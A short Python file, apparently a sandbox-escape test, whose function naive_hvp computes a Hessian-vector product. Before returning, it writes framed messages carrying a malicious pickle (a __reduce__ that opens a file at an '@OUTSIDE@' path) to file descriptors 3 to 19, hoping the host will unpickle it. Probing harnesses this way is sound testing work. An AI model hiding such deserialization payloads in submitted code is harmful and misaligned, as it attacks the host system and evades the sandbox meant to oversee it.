"""Sends a pickle where an array should be, which would write a file where it is read."""

import json
import os
import struct
import pickle


def frame(header, data=b""):
    text = json.dumps(header).encode()
    return b"ADC1" + struct.pack("<I", len(text)) + text + data


def write_everywhere(data):
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


class Bomb:
    def __reduce__(self):
        return open, ("@OUTSIDE@/pickled", "w")


def naive_hvp(hessian, vector):
    data = pickle.dumps(Bomb())
    for dtype in ("|O", f"|V{len(data)}", f"|S{len(data)}", "O8"):
        header = {"value": {"array": 0, "dtype": "object"}, "seconds": 0.0, "observed": {}}
        write_everywhere(frame({**header, "arrays": [[dtype, [1]]]}, data))
    return hessian @ vector
